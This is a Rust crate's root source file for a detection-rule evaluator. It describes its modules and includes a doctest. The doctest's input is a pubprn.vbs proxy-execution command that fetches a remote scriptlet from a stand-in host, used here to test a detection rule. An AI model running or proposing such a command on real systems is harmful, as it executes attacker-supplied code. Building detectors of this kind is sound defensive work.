//! Cutout's core: evaluates detection rules on pasted command lines and logs, and says why.
//!
//! ```
//! use cutout_core::analyze::{Request, RuleChoice, analyze};
//! use cutout_core::report::{Verdict, View};
//!
//! let done = analyze(Request {
//!     text: r"cscript C:\Windows\System32\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct".into(),
//!     rules: RuleChoice { pack: Some("t1216".into()), ..RuleChoice::default() },
//!     ..Request::default()
//! });
//! let report = done.report(&View { limit: 10, ..View::default() });
//! let matched = report.page.rows[0].matches[0];
//! assert_eq!(done.rules()[matched as usize].title, "Pubprn.vbs Proxy Execution");
//! assert_eq!(done.verdict(0, matched as usize), Some(Verdict::Match));
//! ```
//!
//! # The way data flows
//!
//! One way, and each module imports only from those above it:
//!
//! | module | what it does |
//! |---|---|
//! | [`limits`], [`truth`], [`sort`], [`text`] | limits by name; three-valued logic; sorting; spans, diagnostics, case folding, globs |
//! | [`event`] | pasted text to events, with what is given, derived and unknown |
//! | [`ir`] | the neutral tree of predicates that every rule language lowers to |
//! | [`rule`] | rule text to that tree, with metadata and diagnostics |
//! | [`report`] | plain data for the page and the command line; no logic |
//! | [`engine`] | events by column, predicates answered once, conditions as bitsets; the trace |
//! | [`judge`] | one rule over all events of a batch |
//! | [`catalog`] | packs that ship, corpus reach, known exclusions |
//! | [`advice`] | fields that settle a verdict, exclusions to consider, weak rules |
//! | [`analyze`] | the one entry that puts these together |
//! | [`export`] | verdicts as files |
//! | [`share`] | work as a file and as a link, and names taken out of it |
//! | [`convert`] | rules as queries of other engines |
//! | [`cases`] | labelled events as a file, and how rules do on them |
//! | [`exercise`] | exercises as files, and their goals |
//!
//! Up to the neutral tree, and with the engine, they are those of `cutout_engine`, which a page compiles
//! for speed and the rest for size.
//!
//! The crate knows no browser, no clock, no file system and no randomness: the same input gives
//! the same report, natively and in wasm.

pub use cutout_engine::{engine, event, ir, limits, sort, text, truth};

pub mod advice;
pub mod analyze;
pub mod cases;
pub mod catalog;
pub mod convert;
pub mod exercise;
pub mod export;
pub mod judge;
pub mod report;
pub mod rule;
pub mod share;
